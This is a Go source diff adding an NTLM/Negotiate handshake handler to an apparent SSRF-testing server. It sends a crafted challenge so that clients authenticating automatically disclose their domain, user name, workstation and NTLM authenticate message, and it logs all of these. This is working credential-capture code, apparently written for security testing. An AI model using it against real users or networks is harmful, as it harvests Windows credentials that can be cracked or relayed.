@@ -0,0 +1,235 @@
+package handler
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/binary"
+	"errors"
+	"net/http"
+	"strings"
+	"unicode/utf16"
+
+	"go.uber.org/zap"
+)
+
+var _ntlmSignature = []byte("NTLMSSP\x00")
+
+const (
+	ntlmNegotiateMessage    = 1
+	ntlmChallengeMessage    = 2
+	ntlmAuthenticateMessage = 3
+
+	ntlmFlagUnicode             = 0x00000001
+	ntlmFlagRequestTarget       = 0x00000004
+	ntlmFlagNTLM                = 0x00000200
+	ntlmFlagDomainSupplied      = 0x00001000
+	ntlmFlagWorkstationSupplied = 0x00002000
+	ntlmFlagAlwaysSign          = 0x00008000
+	ntlmFlagTargetDomain        = 0x00010000
+	ntlmFlagExtendedSession     = 0x00080000
+	ntlmFlagTargetInfo          = 0x00800000
+	ntlmFlag128                 = 0x20000000
+	ntlmFlag56                  = 0x80000000
+
+	// Name advertised as the domain in our type-2 challenge.
+	ntlmTargetName = "SHERIFF"
+)
+
+// ntlmMessage holds the fields we care about from a client NTLM message.
+type ntlmMessage struct {
+	Type        uint32
+	Flags       uint32
+	Domain      string
+	User        string
+	Workstation string
+}
+
+// handleNTLMCapture drives an NTLM/Negotiate handshake with clients that
+// auto-negotiate Windows authentication and logs whatever account information
+// they leak. It returns true if it has written a response and the request
+// should not be handled any further.
+func (s *SSRFSheriffRouter) handleNTLMCapture(w http.ResponseWriter, r *http.Request) bool {
+	scheme, payload := splitAuthorization(r.Header.Get("Authorization"))
+	if scheme != "ntlm" && scheme != "negotiate" {
+		w.Header().Add("WWW-Authenticate", "NTLM")
+		w.Header().Add("WWW-Authenticate", "Negotiate")
+		w.WriteHeader(http.StatusUnauthorized)
+		return true
+	}
+
+	raw, err := base64.StdEncoding.DecodeString(payload)
+	if err != nil {
+		s.logger.Warn("Invalid NTLM authorization header",
+			zap.String("IP", r.RemoteAddr),
+			zap.String("Authorization", r.Header.Get("Authorization")),
+			zap.Error(err),
+		)
+		return false
+	}
+
+	msg, err := parseNTLMMessage(raw)
+	if err != nil {
+		s.logger.Warn("Unparseable NTLM message",
+			zap.String("IP", r.RemoteAddr),
+			zap.String("Authorization", r.Header.Get("Authorization")),
+			zap.Error(err),
+		)
+		return false
+	}
+
+	s.logger.Info("Captured NTLM message",
+		zap.String("IP", r.RemoteAddr),
+		zap.String("Path", r.URL.Path),
+		zap.Uint32("Message Type", msg.Type),
+		zap.String("Domain", msg.Domain),
+		zap.String("User", msg.User),
+		zap.String("Workstation", msg.Workstation),
+		zap.String("Authorization", r.Header.Get("Authorization")),
+	)
+
+	if msg.Type != ntlmNegotiateMessage {
+		// The authenticate message is the last one in the handshake, so we let
+		// the regular handler answer it.
+		return false
+	}
+
+	challenge, err := ntlmChallenge()
+	if err != nil {
+		s.logger.Error("Failed to build NTLM challenge", zap.Error(err))
+		return false
+	}
+
+	prefix := "NTLM"
+	if scheme == "negotiate" {
+		prefix = "Negotiate"
+	}
+	w.Header().Set("WWW-Authenticate", prefix+" "+base64.StdEncoding.EncodeToString(challenge))
+	w.WriteHeader(http.StatusUnauthorized)
+	return true
+}
+
+// splitAuthorization splits an Authorization header into its lowercased
+// scheme and its credentials.
+func splitAuthorization(header string) (string, string) {
+	parts := strings.SplitN(strings.TrimSpace(header), " ", 2)
+	if len(parts) != 2 {
+		return strings.ToLower(parts[0]), ""
+	}
+	return strings.ToLower(parts[0]), strings.TrimSpace(parts[1])
+}
+
+// parseNTLMMessage parses a type-1 or type-3 NTLM message. SPNEGO-wrapped
+// tokens sent with the Negotiate scheme are supported by locating the
+// embedded NTLMSSP message.
+func parseNTLMMessage(raw []byte) (*ntlmMessage, error) {
+	idx := bytes.Index(raw, _ntlmSignature)
+	if idx < 0 {
+		return nil, errors.New("no NTLMSSP signature found")
+	}
+	raw = raw[idx:]
+	if len(raw) < 16 {
+		return nil, errors.New("message too short")
+	}
+
+	msg := &ntlmMessage{Type: binary.LittleEndian.Uint32(raw[8:12])}
+	switch msg.Type {
+	case ntlmNegotiateMessage:
+		msg.Flags = binary.LittleEndian.Uint32(raw[12:16])
+		if msg.Flags&ntlmFlagDomainSupplied != 0 {
+			msg.Domain = string(ntlmField(raw, 16))
+		}
+		if msg.Flags&ntlmFlagWorkstationSupplied != 0 {
+			msg.Workstation = string(ntlmField(raw, 24))
+		}
+	case ntlmAuthenticateMessage:
+		if len(raw) < 64 {
+			return nil, errors.New("authenticate message too short")
+		}
+		msg.Flags = binary.LittleEndian.Uint32(raw[60:64])
+		decode := func(b []byte) string { return string(b) }
+		if msg.Flags&ntlmFlagUnicode != 0 {
+			decode = decodeUTF16LE
+		}
+		msg.Domain = decode(ntlmField(raw, 28))
+		msg.User = decode(ntlmField(raw, 36))
+		msg.Workstation = decode(ntlmField(raw, 44))
+	default:
+		return nil, errors.New("unexpected NTLM message type")
+	}
+	return msg, nil
+}
+
+// ntlmField reads the security buffer descriptor at the given offset and
+// returns the bytes it points to, or nil if it is out of bounds.
+func ntlmField(raw []byte, offset int) []byte {
+	if len(raw) < offset+8 {
+		return nil
+	}
+	length := int(binary.LittleEndian.Uint16(raw[offset : offset+2]))
+	start := int(binary.LittleEndian.Uint32(raw[offset+4 : offset+8]))
+	if length == 0 || start < 0 || start+length > len(raw) {
+		return nil
+	}
+	return raw[start : start+length]
+}
+
+func decodeUTF16LE(b []byte) string {
+	u := make([]uint16, len(b)/2)
+	for i := range u {
+		u[i] = binary.LittleEndian.Uint16(b[i*2:])
+	}
+	return string(utf16.Decode(u))
+}
+
+func encodeUTF16LE(s string) []byte {
+	u := utf16.Encode([]rune(s))
+	b := make([]byte, len(u)*2)
+	for i, c := range u {
+		binary.LittleEndian.PutUint16(b[i*2:], c)
+	}
+	return b
+}
+
+// ntlmChallenge builds a type-2 challenge message with a random server
+// challenge. Target info is included so that NTLMv2 clients go on to send
+// their authenticate message.
+func ntlmChallenge() ([]byte, error) {
+	const headerLen = 48
+
+	targetName := encodeUTF16LE(ntlmTargetName)
+
+	// AV pairs: MsvAvNbDomainName, MsvAvNbComputerName, MsvAvEOL.
+	var targetInfo bytes.Buffer
+	for _, avID := range []uint16{2, 1} {
+		binary.Write(&targetInfo, binary.LittleEndian, avID)
+		binary.Write(&targetInfo, binary.LittleEndian, uint16(len(targetName)))
+		targetInfo.Write(targetName)
+	}
+	targetInfo.Write([]byte{0, 0, 0, 0})
+
+	msg := make([]byte, headerLen, headerLen+len(targetName)+targetInfo.Len())
+	copy(msg, _ntlmSignature)
+	binary.LittleEndian.PutUint32(msg[8:], ntlmChallengeMessage)
+
+	binary.LittleEndian.PutUint16(msg[12:], uint16(len(targetName)))
+	binary.LittleEndian.PutUint16(msg[14:], uint16(len(targetName)))
+	binary.LittleEndian.PutUint32(msg[16:], headerLen)
+
+	flags := uint32(ntlmFlagUnicode | ntlmFlagRequestTarget | ntlmFlagNTLM |
+		ntlmFlagAlwaysSign | ntlmFlagTargetDomain | ntlmFlagExtendedSession |
+		ntlmFlagTargetInfo | ntlmFlag128 | ntlmFlag56)
+	binary.LittleEndian.PutUint32(msg[20:], flags)
+
+	if _, err := rand.Read(msg[24:32]); err != nil {
+		return nil, err
+	}
+
+	binary.LittleEndian.PutUint16(msg[40:], uint16(targetInfo.Len()))
+	binary.LittleEndian.PutUint16(msg[42:], uint16(targetInfo.Len()))
+	binary.LittleEndian.PutUint32(msg[44:], uint32(headerLen+len(targetName)))
+
+	msg = append(msg, targetName...)
+	msg = append(msg, targetInfo.Bytes()...)
+	return msg, nil
+}